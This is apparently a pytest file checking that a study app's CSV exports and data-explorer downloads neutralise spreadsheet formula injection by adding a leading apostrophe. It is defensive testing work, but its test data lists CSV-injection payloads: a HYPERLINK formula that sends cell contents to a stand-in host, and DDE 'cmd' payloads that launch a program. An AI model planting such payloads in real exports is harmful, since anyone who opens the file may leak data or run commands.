"""CSV exports neutralise cells a spreadsheet would run as formulas (studies and explorer)."""
import csv
import io
import json
from decimal import Decimal

import pytest
from test_studies_support import SEEDS, TASKS, admin, study  # noqa: F401

from environment.csvcells import safe_cell
from explorer.tables import Table
from studies import participants
from studies.exports import write_export
from studies.figures import Filters

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leading_text_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.25", "+3", "-1e-05", "0.708", "plain", "", "a=b", "-"[:0]])
def test_numbers_and_plain_text_are_unchanged(text):
    assert safe_cell(text) == text


def test_a_study_export_neutralises_labels_and_reasons_and_says_so(study, admin, tmp_path):
    person = participants.add_participant(admin, study, HOSTILE[0])
    issued = participants.invite(admin, person)
    participants.revoke(admin, issued.invitation, HOSTILE[3])
    write_export(study, Filters(), tmp_path / "out")
    with (tmp_path / "out" / "events.csv").open(newline="") as fh:
        reasons = [row["reason"] for row in csv.DictReader(fh)]
    assert "'" + HOSTILE[3] in reasons and HOSTILE[3] not in reasons
    cells = [c for row in csv.reader((tmp_path / "out" / "wide.csv").open(newline="")) for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    events = json.loads((tmp_path / "out" / "events.json").read_text())
    assert HOSTILE[3] in [e["reason"] for e in events]  # JSON keeps the value
    book = json.loads((tmp_path / "out" / "codebook.json").read_text())
    assert any("leading apostrophe" in entry["meaning"] for entry in book)


def test_an_explorer_download_neutralises_a_hostile_tool_name():
    table = Table("actions", ("seq", "tool", "delta"), [(1, "=cmd|' /C calc'!A0", Decimal("-1.50"))])
    rows = list(csv.reader(io.StringIO(table.as_csv())))
    assert rows[1] == ["1", "'=cmd|' /C calc'!A0", "-1.50"]
